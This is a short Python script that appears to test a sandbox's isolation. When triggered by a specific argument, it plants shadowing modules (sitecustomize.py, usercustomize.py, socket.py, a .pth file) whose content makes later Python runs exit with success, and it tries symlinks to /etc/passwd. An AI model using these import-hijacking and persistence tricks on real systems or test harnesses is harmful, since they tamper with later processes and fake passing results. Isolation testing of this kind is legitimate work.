# Leaves modules for the next one: beside its file, at home, in caches, and by variables.
import os
import sys

tries, worked = 0, []


def tried(what, act):
    global tries
    tries += 1
    try:
        act()
    except OSError:
        return
    worked.append(what)


def attack():
    os.makedirs("/tmp/.local/lib/python%d.%d/site-packages" % sys.version_info[:2], exist_ok=True)
    for name in ("/tmp/.local/lib/python%d.%d/site-packages/usercustomize.py" % sys.version_info[:2],
                 "/tmp/sitecustomize.py", "/tmp/socket.py", "/dev/shm/socket.py"):
        with open(name, "w") as file:  # allowed, and gone with this process
            file.write("raise SystemExit(0)")
    for name in ("/sub/socket.py", "/sub/sitecustomize.py", "socket.py", "traceback.py", "/sub/__pycache__",
                 "/usr/lib/python3/dist-packages/harm.pth", os.__file__ + "c"):
        tried(name, lambda: open(name, "w"))
        tried(name, lambda: os.symlink("/etc/passwd", name + "-link"))
        tried(name, lambda: os.mkdir(name + "-folder"))
    tried("a cache", lambda: os.listdir("/sub/__pycache__"))
    sys.exit(print(f"tried {tries}, {len(worked)} with success {worked[:1]}", file=sys.stderr) or 9)


if os.path.exists("/tmp/socket.py") or os.path.exists("/dev/shm/socket.py"):
    sys.exit(5)
if sys.argv[2] == "70000":
    attack()
